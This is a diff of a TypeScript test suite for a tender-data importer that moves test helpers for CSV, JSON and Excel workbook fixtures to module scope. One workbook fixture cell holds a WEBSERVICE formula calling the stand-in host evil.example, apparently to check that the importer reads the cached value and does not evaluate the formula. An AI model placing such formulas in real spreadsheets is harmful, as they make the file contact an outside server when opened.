@@ -64,6 +64,9 @@ const expected = {
   deadline: { at: '2026-02-06T23:59:59.000Z', zone: 'Europe/Lisbon', zoneAssumed: true, dateOnly: true },
 };
 
+const cyrillic = (text: string) =>
+  Buffer.from([...text].map((letter) => (letter >= 'А' && letter <= 'я' ? letter.charCodeAt(0) - 0x410 + 0xc0 : letter.charCodeAt(0))));
+
 describe('a table of one’s own', () => {
   it.each([[';'], ['\t'], ['|']])('is read with %j between its cells', async (separator) => {
     const key = fresh();
@@ -84,8 +87,6 @@ describe('a table of one’s own', () => {
   });
 
   it('in Cyrillic of windows-1251 is told by its letters, or by the mapping', async () => {
-    const cyrillic = (text: string) =>
-      Buffer.from([...text].map((letter) => (letter >= 'А' && letter <= 'я' ? letter.charCodeAt(0) - 0x410 + 0xc0 : letter.charCodeAt(0))));
     const own = parseMapping(
       JSON.stringify({ ...given, id: 'hill-ru', recognise: { columns: ['No', 'Title'] }, key: ['No'], fields: { title: 'Title' }, date: undefined }),
     );
@@ -146,6 +147,8 @@ describe('a table of one’s own', () => {
   });
 });
 
+const record = (number: string) => ({ number, about: { title: 'Bridge' }, sum: { amount: 12.5, currency: 'KES' }, also: ['x', 'y', null] });
+
 describe('JSON of one’s own', () => {
   const own = parseMapping(
     JSON.stringify({
@@ -156,7 +159,6 @@ describe('JSON of one’s own', () => {
       fields: { title: 'about.title', value: { amount: 'sum.amount', currency: 'sum.currency' }, references: ['also'] },
     }),
   );
-  const record = (number: string) => ({ number, about: { title: 'Bridge' }, sum: { amount: 12.5, currency: 'KES' }, also: ['x', 'y', null] });
 
   it.each([
     ['a list', (list: object[]) => JSON.stringify(list)],
@@ -175,20 +177,23 @@ describe('JSON of one’s own', () => {
   });
 });
 
+const day = (serial: number) => ({ xml: `<c r="REF" s="1"><v>${serial}</v></c>` });
+
+const shared = (number: number) => ({ xml: `<c r="REF" t="s"><v>${number}</v></c>` });
+
+// 46027: 5 January 2026; 46059.5: noon of 6 February.
+const sheetRowsOf = (key: string) => [
+  header,
+  [key, shared(1), 1234.5, day(46_027), day(46_059.5), { xml: '<c r="REF" t="str"><f>WEBSERVICE("http://evil.example")</f><v>São Tomé</v></c>' }],
+];
+
 describe('a workbook of one’s own', () => {
-  const day = (serial: number) => ({ xml: `<c r="REF" s="1"><v>${serial}</v></c>` });
-  const shared = (number: number) => ({ xml: `<c r="REF" t="s"><v>${number}</v></c>` });
-  // 46027: 5 January 2026; 46059.5: noon of 6 February.
-  const rows = (key: string) => [
-    header,
-    [key, shared(1), 1234.5, day(46_027), day(46_059.5), { xml: '<c r="REF" t="str"><f>WEBSERVICE("http://evil.example")</f><v>São Tomé</v></c>' }],
-  ];
   const strings = ['<t>never</t>', '<r><t>Reparação </t></r><r><t>da ponte</t></r><rPh sb="0" eb="1"><t>spoken</t></rPh>'];
   const book = (key: string, more = {}) =>
     workbook({
       sheets: [
         { name: 'Hidden', state: 'hidden', xml: sheetXml([['x']]) },
-        { name: 'Tenders', xml: sheetXml(rows(key)) },
+        { name: 'Tenders', xml: sheetXml(sheetRowsOf(key)) },
       ],
       strings,
       formats: [0, 14],
@@ -225,7 +230,7 @@ describe('a workbook of one’s own', () => {
     const d = fresh();
     const sheets = [
       { name: 'Other', xml: sheetXml([['x', 'y']]) },
-      { name: 'Tenders', xml: sheetXml(rows(d)) },
+      { name: 'Tenders', xml: sheetXml(sheetRowsOf(d)) },
     ];
     const other = await workbook({ sheets, strings, formats: [0, 14] });
     expect((await importing(other)).codes).toEqual(['unknown-format']);
@@ -234,7 +239,7 @@ describe('a workbook of one’s own', () => {
 
   it('read again adds and changes nothing; bad rows are logged with their numbers', async () => {
     const key = fresh();
-    const sheet = sheetXml([...rows(key), ['', 'No number'], [], [fresh(), 'Short']]);
+    const sheet = sheetXml([...sheetRowsOf(key), ['', 'No number'], [], [fresh(), 'Short']]);
     const bytes = await workbook({ sheets: [{ name: 'A', xml: [...sheet] }], strings, formats: [0, 14] });
     const { counters, errors } = await importing(bytes);
     expect(counters).toEqual({ read: 3, new: 2, failed: 1 });
